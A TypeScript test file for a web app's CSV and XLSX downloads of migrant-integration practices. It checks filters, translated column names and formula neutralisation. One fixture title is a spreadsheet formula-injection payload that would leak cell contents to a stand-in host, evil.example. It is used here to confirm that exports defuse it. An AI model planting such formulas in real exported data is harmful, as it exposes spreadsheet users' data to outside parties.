import { parse as parseCsv } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildTestApp } from '../../../test/helpers/app.ts';
import {
  createPreparedDatabase,
  type DialectName,
  dialects,
  type TestDatabase,
} from '../../../test/helpers/databases.ts';
import { importPractices } from '../practices/practice-interchange.service.ts';

const FORMULA_TITLE = '=HYPERLINK("https://evil.example/?leak="&A2,"Open report")';
const RECORDS = [
  {
    external_id: 'download-formula',
    title: FORMULA_TITLE,
    language: 'en',
    summary: 'A one-stop shop for newcomers looking for work in Lyon.',
    country: 'FR',
    city: 'Lyon',
    themes: ['employment'],
    start_year: 2019,
    organisations: [{ name: 'Ville de Lyon', role: 'lead' }],
    sections: { context: 'Newcomers looked for work.', objectives: 'Jobs.' },
    evidence_level: 'not-evaluated',
  },
  {
    external_id: 'download-berlin',
    title: 'Language cafés in Berlin',
    language: 'en',
    summary: 'Volunteers meet newcomers to practise German every week.',
    country: 'DE',
    city: 'Berlin',
    themes: ['employment'],
    start_year: 2016,
    organisations: [{ name: 'Stadt Berlin', role: 'lead' }],
    sections: { context: 'Newcomers wanted to practise.', objectives: 'Language.' },
    evidence_level: 'not-evaluated',
  },
];

async function* values(records: unknown[]) {
  let number = 0;
  for (const value of records) yield { number: ++number, value };
}

function csvRows(body: string): string[][] {
  return parseCsv(body.replace(/^\uFEFF/, '')) as string[][];
}

async function xlsxRows(payload: Buffer): Promise<string[][]> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(payload as unknown as ArrayBuffer);
  const sheet = workbook.worksheets[0];
  if (!sheet) throw new Error('The workbook has no sheet.');
  const rows: string[][] = [];
  sheet.eachRow((row) => {
    const cells = (row.values as unknown[]).slice(1);
    rows.push(cells.map((c) => (c === undefined || c === null ? '' : String(c))));
  });
  return rows;
}

describe.each(dialects)('practice downloads on %s', (dialect: DialectName) => {
  let database: TestDatabase;
  let app: FastifyInstance;

  beforeAll(async () => {
    database = await createPreparedDatabase(dialect);
    const report = await importPractices(database.db, values(RECORDS));
    expect(report.problems).toEqual([]);
    app = await buildTestApp(database);
  });
  afterAll(async () => {
    await app.close();
    await database.drop();
  });

  it('offers CSV and XLSX on the practices list and the search page, with the page’s filters', async () => {
    const list = (await app.inject('/practices?country=FR&page=1')).body;
    expect(list).toContain('href="/practices.csv?country=FR"');
    expect(list).toContain('href="/practices.xlsx?country=FR"');
    expect(list).toContain('5,000');
    const found = (await app.inject('/search?q=newcomers')).body;
    expect(found).toContain('href="/search.csv?q=newcomers"');
    expect(found).toContain('href="/search.xlsx?q=newcomers"');
    const french = (await app.inject('/fr/practices')).body;
    expect(french).toContain('href="/fr/practices.csv"');
    expect(french).toContain('Télécharger');
  });

  it('offers the practices of a theme, a country and a region, with that filter', async () => {
    const theme = (await app.inject('/themes/employment')).body;
    expect(theme).toContain('href="/practices.csv?theme=employment&sort=newest"');
    expect(theme).toContain('href="/practices.xlsx?theme=employment&sort=newest"');
    const country = (await app.inject('/countries/DE')).body;
    expect(country).toContain('href="/practices.csv?country=DE&sort=newest"');
    expect(country).toContain('href="/practices.xlsx?country=DE&sort=newest"');
    const region = (await app.inject('/regions/155')).body;
    expect(region).toContain('href="/practices.csv?region=155&sort=newest"');
    expect(region).toContain('href="/practices.xlsx?region=155&sort=newest"');
    const western = csvRows((await app.inject('/practices.csv?region=155&sort=newest')).body);
    expect(
      western
        .slice(1)
        .map((r) => r[2])
        .sort(),
    ).toEqual(['Berlin', 'Lyon']);
    const germany = csvRows((await app.inject('/practices.csv?country=DE&sort=newest')).body);
    expect(germany.slice(1).map((r) => r[2])).toEqual(['Berlin']);
  });

  it('writes CSV with a byte-order mark, every matching practice and formulas neutralised', async () => {
    const response = await app.inject('/practices.csv');
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).toBe('attachment; filename="practices.csv"');
    expect(response.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    const rows = csvRows(response.body);
    expect(rows[0]).toEqual([
      'Title',
      'Link',
      'City',
      'Country',
      'Themes',
      'Evidence',
      'Start year',
      'End year',
      'Language of the text',
      'Summary',
      'Last updated',
    ]);
    expect(rows).toHaveLength(3);
    const formula = rows.find((r) => r[2] === 'Lyon');
    expect(formula?.[0]).toBe(`'${FORMULA_TITLE}`);
    expect(formula?.[1]).toMatch(/^https?:\/\/[^/]+\/practices\/[a-z0-9-]+$/);
    expect(formula?.[3]).toBe('France');
    expect(formula?.[5]).toBe('Not evaluated');
  });

  it('names the columns and values in the reader’s language', async () => {
    const rows = csvRows((await app.inject('/fr/practices.csv?country=DE')).body);
    expect(rows[0]?.slice(0, 6)).toEqual([
      'Titre',
      'Lien',
      'Ville',
      'Pays',
      'Thèmes',
      'Données probantes',
    ]);
    expect(rows).toHaveLength(2);
    expect(rows[1]?.[3]).toBe('Allemagne');
    expect(rows[1]?.[5]).toBe('Non évaluée');
    expect(rows[1]?.[1]).toMatch(/\/fr\/practices\/[a-z0-9-]+$/);
  });

  it('honours the filters and words of the page', async () => {
    const berlin = csvRows((await app.inject('/practices.csv?country=DE&page=3')).body);
    expect(berlin.slice(1).map((r) => r[0])).toEqual(['Language cafés in Berlin']);
    const searched = csvRows((await app.inject('/search.csv?q=german')).body);
    expect(searched.slice(1).map((r) => r[0])).toEqual(['Language cafés in Berlin']);
    const wrong = await app.inject('/practices.csv?sort=colour');
    expect(wrong.statusCode).toBe(400);
    expect(wrong.body).toContain('sort');
  });

  it('writes an XLSX workbook with the same rows as the CSV', async () => {
    const response = await app.inject('/practices.xlsx');
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe(
      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    );
    const workbook = await xlsxRows(response.rawPayload);
    const csv = csvRows((await app.inject('/practices.csv')).body);
    expect(workbook).toHaveLength(csv.length);
    expect(workbook[0]).toEqual(csv[0]);
    // A text cell is never run as a formula, so the title is kept as it was written.
    expect(workbook.map((r) => r[0])).toContain(FORMULA_TITLE);
    expect(
      workbook
        .slice(1)
        .map((r) => r[1])
        .sort(),
    ).toEqual(
      csv
        .slice(1)
        .map((r) => r[1])
        .sort(),
    );
  });
});
